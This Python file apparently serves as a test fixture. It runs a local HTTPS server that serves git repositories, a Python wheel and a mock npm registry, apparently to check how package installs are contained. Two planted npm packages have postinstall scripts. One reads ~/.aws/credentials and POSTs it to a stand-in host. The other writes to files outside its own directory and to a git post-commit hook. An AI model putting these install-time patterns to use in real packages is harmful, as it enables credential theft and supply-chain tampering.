# SPDX-License-Identifier: MIT
"""What is outside: an https server on localhost:8443 with git repositories, an index of Python packages and
a registry of npm packages.

world.py CERTIFICATE KEY REPOSITORIES
"""
import base64
import hashlib
import http.server
import io
import json
import os
import ssl
import subprocess
import sys
import tarfile
import zipfile

CERTIFICATE, KEY, REPOSITORIES = sys.argv[1:4]
HERE = "https://localhost:8443"

SUM_C = """#include <node_api.h>
static napi_value sum(napi_env env, napi_callback_info info)
{
	size_t n = 2;
	napi_value v[2], out;
	double a, b;

	napi_get_cb_info(env, info, &n, v, NULL, NULL);
	napi_get_value_double(env, v[0], &a);
	napi_get_value_double(env, v[1], &b);
	napi_create_double(env, a + b, &out);
	return out;
}
NAPI_MODULE_INIT()
{
	napi_value f;

	napi_create_function(env, "sum", 3, sum, NULL, &f);
	napi_set_named_property(env, exports, "sum", f);
	return exports;
}
"""

# What a planted package does when it is installed: each step is noted, as far as it gets.
STEAL_JS = """const fs = require("fs"), http = require("http"), os = require("os");
const note = (s) => fs.appendFileSync("diary", s + "\\n");
note("started");
let loot = "nothing";
try {
  loot = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8");
  note("read: " + loot);
} catch (e) { note("read: " + e.code); }
const r = http.request({ host: "203.0.113.9", method: "POST", timeout: 5000 }, () => note("post: done"));
r.on("error", (e) => note("post: " + e.code));
r.on("timeout", () => { note("post: timeout"); r.destroy(); });
r.end(loot);
"""

# A package that would change more than its own directory.
MEDDLE_JS = """const fs = require("fs");
const note = (what, to) => {
  try { fs.appendFileSync(to, "// meddled\\n"); fs.appendFileSync("diary", what + ": done\\n"); }
  catch (e) { fs.appendFileSync("diary", what + ": " + e.code + "\\n"); }
};
note("own", "own");
note("source", "../../source.js");
note("hook", "../../../.git/hooks/post-commit");
"""

NPM = {
    "tool": {"bin": {"tool": "tool.js"}, "files": {"tool.js": '#!/usr/bin/env node\nconsole.log("tool works")\n'}},
    "native-sum": {
        "main": "./build/Release/sum.node",
        "gypfile": True,
        "scripts": {"install": "node-gyp rebuild"},
        "files": {"sum.c": SUM_C, "binding.gyp": '{"targets": [{"target_name": "sum", "sources": ["sum.c"]}]}'},
    },
    "meddler": {"scripts": {"postinstall": "node meddle.js"}, "files": {"meddle.js": MEDDLE_JS}},
    "stealer": {"scripts": {"postinstall": "node steal.js"}, "files": {"steal.js": STEAL_JS}},
}


def npm_package(name):
    """(what the registry says of it, the archive)"""
    spec = dict(NPM[name])
    files = spec.pop("files")
    spec.update(name=name, version="1.0.0")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for file, text in {"package.json": json.dumps(spec), **files}.items():
            info = tarfile.TarInfo("package/" + file)
            info.size, info.mode = len(text), 0o755
            tar.addfile(info, io.BytesIO(text.encode()))
    archive = out.getvalue()
    digest = base64.b64encode(hashlib.sha512(archive).digest()).decode()
    spec["dist"] = {"tarball": f"{HERE}/npm/-/{name}.tgz", "integrity": "sha512-" + digest}
    if "install" in spec.get("scripts", {}) or "postinstall" in spec.get("scripts", {}):
        spec["hasInstallScript"] = True
    return {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": spec}}, archive


def wheel():
    out = io.BytesIO()
    info = "demo-1.0.dist-info/"
    files = {
        "demo.py": 'def main():\n    print("demo works")\n',
        info + "METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        info + "entry_points.txt": "[console_scripts]\ndemo = demo:main\n",
    }
    files[info + "RECORD"] = "".join(f"{name},,\n" for name in [*files, info + "RECORD"])
    with zipfile.ZipFile(out, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
    return out.getvalue()


PYTHON = "demo-1.0-py3-none-any.whl"
PACKAGES = {name: npm_package(name) for name in NPM} # once: an archive has the time in it


def page(path):
    """(type, body) of what is not git's; None: there is none."""
    parts = path.strip("/").split("/")
    if path == "/simple/demo/":
        return "text/html", f'<a href="/files/{PYTHON}">{PYTHON}</a>'.encode()
    if path == "/files/" + PYTHON:
        return "application/zip", wheel()
    if parts[0] == "npm" and parts[1] == "-" and parts[2][:-4] in PACKAGES:
        return "application/octet-stream", PACKAGES[parts[2][:-4]][1]
    if parts[0] == "npm" and parts[1] in PACKAGES:
        return "application/json", json.dumps(PACKAGES[parts[1]][0]).encode()
    return None


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def reply(self, status, kind, body):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def git(self, body=b""):
        path, _, query = self.path[len("/git"):].partition("?")
        env = {
            "PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": REPOSITORIES, "GIT_HTTP_EXPORT_ALL": "1",
            "REMOTE_USER": "u", "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": self.command,
            "CONTENT_TYPE": self.headers.get("Content-Type", ""), "CONTENT_LENGTH": str(len(body)),
            "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
            "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
        }
        out = subprocess.run(["git", "http-backend"], input=body, env=env, stdout=subprocess.PIPE, check=False).stdout
        head, _, rest = out.partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n") if line)
        self.reply(int(fields.get("Status", "200").split()[0]), fields.get("Content-Type", "text/plain"), rest)

    def do_GET(self):
        found = page(self.path.partition("?")[0])
        if self.path.startswith("/git/"):
            self.git()
        elif found:
            self.reply(200, *found)
        else:
            self.reply(404, "text/plain", b"there is no such page\n")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path.startswith("/git/"):
            self.git(body)
        else: # npm asks whether packages are known to be bad
            self.reply(404, "text/plain", b"")

    def log_message(self, *args):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 8443), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(CERTIFICATE, KEY)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
